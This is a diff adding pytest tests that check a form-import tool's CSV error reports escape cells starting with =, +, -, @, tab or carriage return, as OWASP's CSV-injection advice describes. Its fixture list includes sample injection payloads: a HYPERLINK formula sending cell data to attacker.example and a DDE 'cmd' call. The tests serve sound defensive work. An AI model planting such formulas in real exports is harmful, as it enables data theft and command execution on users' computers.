@@ -11,6 +11,7 @@ import pytest
 from flask import Flask
 from sqlalchemy import select
 
+from latepoint_forms.csv_reports import spreadsheet_safe
 from latepoint_forms.extensions import db
 from latepoint_forms.models import Customer
 
@@ -348,3 +349,53 @@ def test_custom_field_cells_are_checked_by_their_definitions(
         "membership_level": "basic",
         "newsletter": False,
     }
+
+
+FORMULA_KEYS = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_report_cells_a_spreadsheet_would_run_are_escaped(
+    runner: Any, app: Flask, tmp_path: Path
+) -> None:
+    """OWASP's CSV-injection advice: a leading quote on every cell that starts with = + - @,
+    a tab or a carriage return; the rest of the report is as it was."""
+    row = {"first_name": "Ann", "last_name": "Lee", **dict.fromkeys(FORMULA_KEYS, "x")}
+    file = write(tmp_path / "evil.jsonl", json.dumps(row) + "\n")
+    report = tmp_path / "report.csv"
+
+    result = run_import(runner, file, "--report", report)
+
+    assert summary(result)[-1] == f"Rejected: 1 (see {report})"
+    rows = read_report(report)
+    assert rows[0] == ["row", "field", "message"]
+    assert sorted(field for _, field, _ in rows[1:]) == sorted("'" + key for key in FORMULA_KEYS)
+    assert {(line, message) for line, _, message in rows[1:]} == {("1", "Unknown field")}
+    # Every cell is quoted, so a spreadsheet cannot split or reinterpret one.
+    assert report.read_bytes().decode().startswith('"row","field","message"\r\n"1",')
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Unknown field", "Unknown field"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (-1, -1),
+        (7, 7),
+    ],
+)
+def test_spreadsheet_safe(cell: object, written: object) -> None:
+    assert spreadsheet_safe(cell) == written
